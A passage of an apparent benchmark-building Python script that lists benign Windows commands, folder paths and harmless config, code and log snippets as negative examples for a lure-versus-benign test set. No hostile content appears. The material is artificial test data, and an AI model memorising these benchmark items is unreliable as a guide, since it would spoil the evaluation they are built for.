    "ms-settings:windowsupdate-history",
    "explorer shell:::{ED7BA470-8E54-465E-825C-99712043E01C}",
    "mdsched",
    "dxdiag /t %TEMP%\\dx.txt",
    "psr",
]:
    ok(RUNBOX, RUN, None, text)

EXPLORER = "explorer-entry"
for text in [
    "%PROGRAMDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup",
    "\\\\printsrv02\\Etage3-Farbe",
    "E:\\Fotos\\2026\\Urlaub Kroatien",
    "%WINDIR%\\Logs\\CBS",
    "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs",
    "\\\\nas.home.lan\\photos\\2026",
    "D:\\Projekte\\Angebote 2027",
    "shell:RecycleBinFolder",
]:
    ok(EXPLORER, EXP, None, text)

# --- Config, source and log snippets ----------------------------------------------------------------

CONFIG = "config-code"
for page, text in [
    (
        "https://github.com/docker/awesome-compose",
        'services:\n  web:\n    image: nginx:1.27\n    ports:\n      - "8080:80"\n    volumes:\n      - ./html:/usr/share/nginx/html:ro',
    ),
    (
        "https://docs.github.com/en/actions/writing-workflows",
        "on: [push]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: pip install -r requirements.txt && pytest -q",
    ),
    (
        "https://nginx.org/en/docs/http/configuring_https_servers.html",
        "server {\n    listen 443 ssl;\n    server_name www.example.com;\n    ssl_certificate /etc/ssl/certs/www.crt;\n    ssl_certificate_key /etc/ssl/private/www.key;\n}",
    ),
    (
        "https://www.freedesktop.org/software/systemd/man/systemd.service.html",
        "[Unit]\nDescription=App worker\n\n[Service]\nExecStart=/usr/bin/python3 /opt/app/worker.py\nRestart=on-failure\nUser=app\n\n[Install]\nWantedBy=multi-user.target",
    ),
    (
        "https://github.com/example-org/app/blob/main/Makefile",
        "install:\n\tpython -m pip install -e .[dev]\n\ntest:\n\tpytest -q\n\nlint:\n\truff check . && mypy app",
    ),
    (
        "https://github.com/example-org/app/blob/main/app/download.py",
        "import urllib.request\n\ndef fetch(url: str) -> bytes:\n    with urllib.request.urlopen(url, timeout=10) as r:\n        return r.read()",
    ),
    (
        "https://logs.internal.example/app",
        "2026-12-06T10:14:22Z INFO  request id=8f1c path=/api/orders status=200 dur=41ms\n2026-12-06T10:14:23Z WARN  retrying upstream=payments attempt=2",
    ),
    (
        "https://github.com/example-org/infra/blob/main/main.tf",
        'resource "aws_s3_bucket" "logs" {\n  bucket = "example-org-logs"\n  tags = { Env = "prod" }\n}',
    ),
    (
        "https://github.com/example-org/app/blob/main/.env.example",
        "DATABASE_URL=postgres://app:app@localhost:5432/app\nREDIS_URL=redis://localhost:6379/0\nLOG_LEVEL=info",
    ),
    (
        "https://github.com/example-org/dotfiles/blob/main/.gitconfig",
        "[user]\n\tname = Dev Person\n\temail = dev@example.org\n[alias]\n\tlg = log --oneline --graph --decorate\n[init]\n\tdefaultBranch = main",
    ),
]:
    ok(CONFIG, UNK, page, text)

# ----------------------------------------------------------------------------------------------
# Checks and writing: bench/blind/blindkit.py (shared from the seventh set on)
# ----------------------------------------------------------------------------------------------


def lure_rows() -> list[dict[str, str]]:
    return blindkit.lure_rows("blind9", LURES)


def benign_rows() -> list[dict[str, str]]:
    return blindkit.benign_rows("blind9", BENIGN)


def main() -> None:
    blindkit.main("blind9", LURES, BENIGN, LURES_OUT, BENIGN_OUT)


if __name__ == "__main__":
    main()
